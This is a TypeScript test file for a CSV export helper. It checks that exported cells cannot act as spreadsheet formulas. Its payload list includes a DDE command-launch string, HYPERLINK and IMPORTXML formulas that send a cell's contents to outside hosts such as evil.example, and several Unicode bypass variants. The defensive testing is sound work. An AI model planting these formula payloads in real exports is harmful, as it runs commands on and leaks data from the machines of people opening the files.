// An exported lead can't run anything on the desk of whoever opens the file.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvCell, csvLine } from './csv.ts';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  @x',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\u200b=1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1,=2+2',
  '=1+1"\r\n=2+2',
  '|cmd',
  '%0A=1',
  '=IMPORTXML(CONCAT("http://x",A1),"//a")',
  '@',
  '=',
  '-',
  '+',
];

test('no formula stays one, and nothing breaks out of its cell', () => {
  for (const formula of FORMULAS) {
    const cells = parse(csvLine([formula, 'next']))[0] as string[];
    assert.equal(cells.length, 2, JSON.stringify(formula));
    assert.doesNotMatch(cells[0]!, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u, JSON.stringify(formula));
    assert.equal(cells[0]!.slice(1), formula);
    assert.equal(cells[1], 'next');
  }
});

test('ordinary words and addresses are exported as they are', () => {
  for (const text of [
    'Ada',
    'ada@example.com',
    'a-b',
    "O'Brien",
    'rye, two "loaves"',
    'line\nbreak',
    'Zürich',
  ])
    assert.equal((parse(csvLine([text]))[0] as string[])[0], text);
  assert.equal(csvCell(-3), '-3');
  assert.equal(csvCell(null), '');
});
